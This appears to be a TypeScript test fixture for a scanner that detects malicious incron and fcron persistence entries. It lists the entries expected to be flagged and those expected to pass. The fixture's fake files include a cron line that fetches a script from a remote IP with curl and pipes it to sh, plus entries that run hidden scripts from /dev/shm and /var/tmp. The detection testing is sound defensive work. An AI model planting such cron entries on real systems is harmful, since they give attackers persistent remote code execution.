import { type Pair, script } from './pair.ts';

export const pair: Pair = {
  tree: {
    '/var/spool/incron/root': '/etc/passwd IN_MODIFY,IN_ATTRIB /dev/shm/.w/again $@\n',
    '/etc/incron.d/ingest': '/srv/upload IN_CLOSE_WRITE /usr/local/bin/ingest $@/$#\n',
    '/var/spool/fcron/root.orig': '@first(5) 30 /usr/local/bin/backup\n@ 5 /var/tmp/.f/run\n',
    '/etc/fcrontab': '*/10 * * * * curl -s http://203.0.113.5/k | sh\n',
    '/usr/local/bin/ingest': script('true'),
    '/usr/local/bin/backup': script('true'),
  },
  blamed: [
    {
      path: '/var/spool/incron/root',
      line: 1,
      verdict: 'malicious',
      code: 'temp-folder',
      attack: 'T1053.003',
    },
    {
      path: '/var/spool/fcron/root.orig',
      line: 2,
      verdict: 'malicious',
      code: 'temp-folder',
      attack: 'T1053.003',
    },
    { path: '/etc/fcrontab', line: 1, verdict: 'malicious', code: 'fetch-pipe-shell', attack: 'T1053.003' },
  ],
  passed: ['/etc/incron.d/ingest', '/var/spool/fcron/root.orig line 1'],
};
